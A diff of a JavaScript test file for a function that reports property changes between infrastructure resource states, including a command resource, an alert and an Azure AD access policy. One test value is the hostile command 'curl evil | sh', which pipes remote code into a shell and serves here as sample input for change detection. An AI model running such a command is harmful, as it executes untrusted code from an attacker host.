@@ -148,9 +148,13 @@ describe("an input of a known type", () => {
     expect(
       changed(alert, { criteria: { allOf: [{ query: "a" }] } }, { criteria: { allOf: [{ query: "b" }] } }),
     ).toEqual(["unknown resource/unknown-property: x criteria.allOf[].query"]);
-    expect(changed(command, { create: "node --import=@protected-function/infra/publish --eval 0" }, { create: "curl evil | sh" })).toEqual([
-      "unknown resource/unknown-property: x create",
-    ]);
+    expect(
+      changed(
+        command,
+        { create: "node --import=@protected-function/infra/publish --eval 0" },
+        { create: "curl evil | sh" },
+      ),
+    ).toEqual(["unknown resource/unknown-property: x create"]);
     expect(
       changed("azuread:index/conditionalAccessPolicy:ConditionalAccessPolicy", {}, { sessionControls: { x: 1 } }),
     ).toEqual(["unknown resource/unknown-property: x sessionControls.x"]);
